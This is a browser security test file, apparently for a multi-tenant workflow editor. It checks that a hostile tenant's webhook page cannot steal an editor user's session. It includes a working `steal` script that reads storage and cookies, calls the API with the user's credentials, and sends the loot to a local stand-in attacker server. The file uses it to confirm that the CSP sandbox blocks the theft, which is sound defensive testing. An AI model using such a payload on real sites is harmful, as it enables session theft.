/**
 * Issue 16 (High) in a real browser (Debian's Chromium via playwright-core) against the real API
 * serving the built editor. Tenant B's admin publishes a webhook whose respond node answers
 * text/html with a script that reads localStorage and cookies, calls the API with the browser's
 * credentials and sends whatever it got to an attacker's server on 127.0.0.1. The install's
 * bootstrap admin, signed in to the editor, opens the link: the page renders, but the attacker
 * receives no session, and even script run inside that document (as a browser bug or a future
 * `allow-scripts` would allow) reads nothing and cannot call the API as the user. Also: the
 * editor keeps no session in storage, a reload signs in again from the HttpOnly cookie, sign-out
 * ends it, and the editor and Swagger UI run under their CSPs without a violation.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import fs from 'node:fs';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { ADMIN, TestApp } from '../../api/test/harness';
import { buildEditor, EDITOR_DIST, hasChromium, launch, login } from './browser';

const suite = hasChromium() ? describe : describe.skip;

interface Received {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** The attacker's server: records every request, answers 204 with CORS open (as an attacker would). */
async function attackerServer(): Promise<{ url: string; received: Received[]; close: () => Promise<void> }> {
  const received: Received[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      received.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      res.writeHead(204, { 'access-control-allow-origin': '*' });
      res.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, received, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** What a script in a trigger answer tries; the same code runs in the page and through evaluate(). */
async function steal(attacker: string): Promise<Record<string, string>> {
  const report: Record<string, string> = {};
  const attempt = async (name: string, fn: () => unknown) => {
    try {
      report[name] = String(await fn());
    } catch (e) {
      report[name] = `refused: ${(e as Error).name}`;
    }
  };
  await attempt('origin', () => window.origin);
  await attempt('localStorage', () => JSON.stringify(Object.entries(localStorage)));
  await attempt('sessionStorage', () => JSON.stringify(Object.entries(sessionStorage)));
  await attempt('cookie', () => document.cookie);
  await attempt('me', async () => {
    const r = await fetch('/api/v1/me', { credentials: 'include' });
    return `${r.status} ${await r.text()}`;
  });
  const refresh = async (headers: Record<string, string>) => {
    const r = await fetch('/api/v1/auth/refresh', { method: 'POST', credentials: 'include', headers, body: '{}' });
    return `${r.status} ${await r.text()}`;
  };
  await attempt('refresh', () => refresh({ 'x-callflow-session': 'cookie', 'content-type': 'application/json' }));
  await attempt('refreshSimple', () => refresh({ 'content-type': 'text/plain' }));
  const loot = JSON.stringify(report);
  await fetch(`${attacker}/loot`, { method: 'POST', mode: 'no-cors', body: loot }).catch(() => undefined);
  return report;
}

suite('security in the browser: a webhook answer cannot take over an editor session', () => {
  let t: TestApp;
  let browser: Browser;
  let context: BrowserContext;
  let editor: Page;
  let attacker: Awaited<ReturnType<typeof attackerServer>>;
  let keyB: string;
  const problems: string[] = [];

  beforeAll(async () => {
    buildEditor();
    [t, browser, attacker] = await Promise.all([
      TestApp.start({ EDITOR_DIR: EDITOR_DIST }),
      launch(),
      attackerServer(),
    ]);

    // Tenant B's admin (hostile) publishes the trap.
    const b = { email: 'mallory@tenant-b.test', password: 'orbit lantern b-side 2025!' };
    const tenantB = { name: 'Tenant B', adminEmail: b.email, adminPassword: b.password };
    await t.as('post', '/api/v1/tenants').send(tenantB).expect(201);
    const tokenB = (await t.http().post('/api/v1/auth/login').send(b).expect(200)).body.accessToken as string;
    const asB = (method: 'post', url: string) => t.http()[method](url).set('authorization', `Bearer ${tokenB}`);
    const key = await asB('post', '/api/v1/api-keys')
      .send({ name: 'trap', scopes: ['triggers.invoke'] })
      .expect(201);
    keyB = key.body.key;
    const page = [
      '<!doctype html><title>Caller</title><h1 id="card">Caller card</h1>',
      `<img src="${attacker.url}/pixel.png" alt="">`,
      `<script>(${steal.toString()})(${JSON.stringify(attacker.url)})`,
      `.then(() => fetch(${JSON.stringify(attacker.url)} + '/script-ran'))</script>`,
    ].join('');
    const definition = {
      schemaVersion: 1,
      nodes: [
        { id: 't', type: 'trigger.webhook', name: 'hook', position: { x: 0, y: 0 }, config: { methods: ['GET'] } },
        {
          id: 'r',
          type: 'respond',
          name: 'page',
          position: { x: 200, y: 0 },
          config: { body: { type: 'text', template: page, contentType: 'text/html; charset=utf-8' } },
        },
      ],
      edges: [{ id: 'e1', source: 't', target: 'r' }],
    };
    const flow = await asB('post', '/api/v1/flows').send({ name: 'Caller card', key: 'caller-card', definition });
    expect(flow.status).toBe(201);
    await asB('post', `/api/v1/flows/${flow.body.id}/publish`).send({}).expect(200);

    // The bootstrap admin signs in to the editor; CSP violations anywhere are recorded.
    context = await browser.newContext({ baseURL: t.baseUrl, viewport: { width: 1280, height: 800 } });
    await context.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => {
        console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`);
      });
    });
    editor = await context.newPage();
    editor.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
    editor.on('console', (m) => m.type() === 'error' && problems.push(`console: ${m.text()}`));
    editor.setDefaultTimeout(10_000);
    await login(editor, ADMIN.email, ADMIN.password);
    await editor.locator('[data-testid=flows-page]').waitFor();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await attacker?.close();
    await t?.close();
  });

  /** Nothing the attacker received carries a token, the refresh cookie or the user's identity. */
  async function expectNoSessionLeaked(received: Received[]): Promise<void> {
    const refresh = (await context.cookies()).find((c) => c.name === 'callflow_refresh')?.value;
    for (const r of received) {
      const seen = `${r.url} ${JSON.stringify(r.headers)} ${r.body}`;
      expect(seen).not.toMatch(/eyJ[\w-]+\.[\w-]+\./); // a JWT
      expect(seen).not.toContain('cfr_'); // a refresh token
      if (refresh) expect(seen).not.toContain(refresh);
      expect(seen).not.toContain(ADMIN.email);
    }
  }

  afterEach(() => {
    const unexpected = problems.filter((p) => !/status of (401|404)/.test(p));
    problems.length = 0;
    expect(unexpected).toEqual([]);
  });

  it('the editor keeps no session where script can read it', async () => {
    expect(await editor.evaluate(() => Object.keys(localStorage).filter((k) => /session|token/i.test(k)))).toEqual([]);
    expect(await editor.evaluate(() => document.cookie)).not.toContain('callflow_refresh');
    const [cookie] = (await context.cookies()).filter((c) => c.name === 'callflow_refresh');
    const value = expect.stringMatching(/^cfr_/);
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/api/v1/auth', value });
  });

  it('opening the webhook link: the page renders, its script never runs, the attacker gets no session', async () => {
    const hook = await context.newPage();
    const errors: string[] = [];
    hook.on('pageerror', (e) => errors.push(e.message));
    const res = await hook.goto(`/api/v1/hooks/caller-card?token=${keyB}`);
    expect(res!.status()).toBe(200);
    await hook.locator('#card', { hasText: 'Caller card' }).waitFor();
    // The image loaded: the attacker is reachable from this page (so silence below means something).
    const until = Date.now() + 5000;
    while (!attacker.received.some((r) => r.url === '/pixel.png') && Date.now() < until) await hook.waitForTimeout(50);
    // Time for the script to have run and reported, had it been allowed to.
    await hook.waitForTimeout(1500);
    await expectNoSessionLeaked(attacker.received);
    expect(attacker.received.map((r) => r.url)).toEqual(['/pixel.png']);
    // Nor did the URL (with its API key) leave as a Referer.
    expect(attacker.received[0]!.headers.referer).toBeUndefined();
    expect(res!.headers()['content-security-policy']).toBe('sandbox');
    expect(errors).toEqual([]);
    await hook.close();
  });

  it('even script run inside that document reads nothing and cannot act as the user', async () => {
    const hook = await context.newPage();
    await hook.goto(`/api/v1/hooks/caller-card?token=${keyB}`);
    // evaluate() runs despite the sandbox (DevTools protocol), with the document's opaque origin.
    const report = await hook.evaluate(steal, attacker.url);
    expect(report.origin).toBe('null');
    expect(report.localStorage).toMatch(/^refused: SecurityError/);
    expect(report.sessionStorage).toMatch(/^refused: SecurityError/);
    expect(report.cookie).toMatch(/^(refused: SecurityError|)$/);
    expect(report.me).toMatch(/^(refused: TypeError|401 )/); // cross-origin for this document; no bearer anyway
    expect(report.refresh).toBe('refused: TypeError'); // the header needs a preflight nobody grants
    expect(report.refreshSimple).toMatch(/^(refused: TypeError|400 )/);
    expect(attacker.received.find((r) => r.url === '/loot')).toBeDefined();
    await expectNoSessionLeaked(attacker.received);
    await hook.close();
    // The victim's session is untouched: the editor still works.
    await editor.reload();
    await editor.locator('[data-testid=flows-page]').waitFor();
  });

  it('a reload restores the session from the cookie; an old localStorage session is removed', async () => {
    const legacy = JSON.stringify({ token: 'old', user: { email: 'x' } });
    await editor.evaluate((v) => localStorage.setItem('callflow.session', v), legacy);
    const refreshed = editor.waitForResponse((r) => r.url().endsWith('/api/v1/auth/refresh'));
    await editor.reload();
    expect((await refreshed).status()).toBe(200);
    await editor.locator('[data-testid=flows-page]').waitFor();
    expect(await editor.evaluate(() => localStorage.getItem('callflow.session'))).toBeNull();
    await expect(editor.locator('[data-testid=rail-user]').getAttribute('title')).resolves.toBe(ADMIN.email);
  });

  it('the editor canvas (saying why a respond node may not set a cookie) and Swagger UI run under a CSP', async () => {
    const created = await t
      .as('post', '/api/v1/flows')
      .send({
        name: 'CSP check',
        key: 'csp-check',
        definition: {
          schemaVersion: 1,
          nodes: [
            { id: 't', type: 'trigger.webhook', name: 'hook', position: { x: 0, y: 0 }, config: { methods: ['POST'] } },
            {
              id: 'r',
              type: 'respond',
              name: 'answer',
              position: { x: 300, y: 0 },
              config: { headers: [{ name: 'Set-Cookie', value: 'sid=1' }], body: { type: 'text', template: 'ok' } },
            },
          ],
          edges: [{ id: 'e1', source: 't', target: 'r' }],
        },
      })
      .expect(201);
    await editor.goto(`/flows/${created.body.id}`);
    await editor.locator('[data-testid="node-answer"]').click();
    await editor.locator('.field-issues li.err', { hasText: 'may not set cookies' }).waitFor();
    const docs = await context.newPage();
    docs.on('console', (m) => m.type() === 'error' && problems.push(`docs console: ${m.text()}`));
    const res = await docs.goto('/api/docs');
    expect(res!.headers()['content-security-policy']).toMatch(/script-src 'self'/);
    await docs.locator('.swagger-ui .info .title', { hasText: 'Callflow API' }).waitFor();
    await docs.locator('.opblock-tag', { hasText: 'auth' }).first().waitFor();
    await docs.close();
    // problems (CSP violations are console errors) are checked after each test.
  });

  it('no source maps were built or are served', async () => {
    const maps = fs.readdirSync(path.join(EDITOR_DIST, 'assets')).filter((f) => f.endsWith('.map'));
    expect(maps).toEqual([]);
    const script = await editor.evaluate(() => document.querySelector<HTMLScriptElement>('script[type=module]')!.src);
    const r = await t.http().get(`${new URL(script).pathname}.map`);
    expect(r.status).toBe(404);
  });

  it('an access token refused mid-session (as on expiry) is renewed from the cookie, the call retried', async () => {
    await editor.goto('/flows');
    await editor.locator('[data-testid=flows-page]').waitFor();
    await editor.locator('[data-testid=nav-executions]').click();
    await editor.locator('[data-testid=executions-page]').waitFor();
    // The server's answer to an expired token, given once to the next flows list call (fault injection:
    // waiting out a real expiry takes JWT_TTL_SECONDS, at least a minute).
    let refused = 0;
    const flowsList = (url: URL) => url.pathname === '/api/v1/flows';
    await editor.route(flowsList, async (route) => {
      if (refused++ > 0) return route.continue();
      const message = 'the access token is invalid or expired';
      const body = JSON.stringify({ statusCode: 401, error: 'Unauthorized', message });
      await route.fulfill({ status: 401, contentType: 'application/json', body });
    });
    const renewed = editor.waitForResponse((r) => r.url().endsWith('/api/v1/auth/refresh'));
    await editor.locator('[data-testid=nav-flows]').click();
    expect((await renewed).status()).toBe(200);
    await editor.locator('[data-testid=flows-table] [data-testid^=flow-row-]').first().waitFor();
    expect(refused).toBe(2);
    expect(editor.url()).toMatch(/\/flows$/);
    await editor.unroute(flowsList);
  });

  it('tabs opened at once all restore the session: their refreshes take turns (reusing one would end it)', async () => {
    const tabs = await Promise.all([context.newPage(), context.newPage(), context.newPage()]);
    await Promise.all(tabs.map((tab) => tab.goto('/flows')));
    await Promise.all(tabs.map((tab) => tab.locator('[data-testid=flows-page]').waitFor()));
    await Promise.all(tabs.map((tab) => tab.close()));
    // The session is still alive afterwards.
    await editor.reload();
    await editor.locator('[data-testid=flows-page]').waitFor();
    await t.http().get('/api/v1/health').expect(200);
  });

  it('sign-out ends the session on the server: the cookie is cleared and cannot be used again', async () => {
    const [cookie] = (await context.cookies()).filter((c) => c.name === 'callflow_refresh');
    await editor.locator('[data-testid=sign-out]').click();
    await editor.waitForURL(/\/login/);
    expect((await context.cookies()).filter((c) => c.name === 'callflow_refresh')).toEqual([]);
    const refresh = t.http().post('/api/v1/auth/refresh').set('x-callflow-session', 'cookie');
    await refresh.set('cookie', `callflow_refresh=${cookie!.value}`).send({}).expect(401);
    await editor.reload();
    await editor.locator('[data-testid=login-form]').waitFor();
  });
});
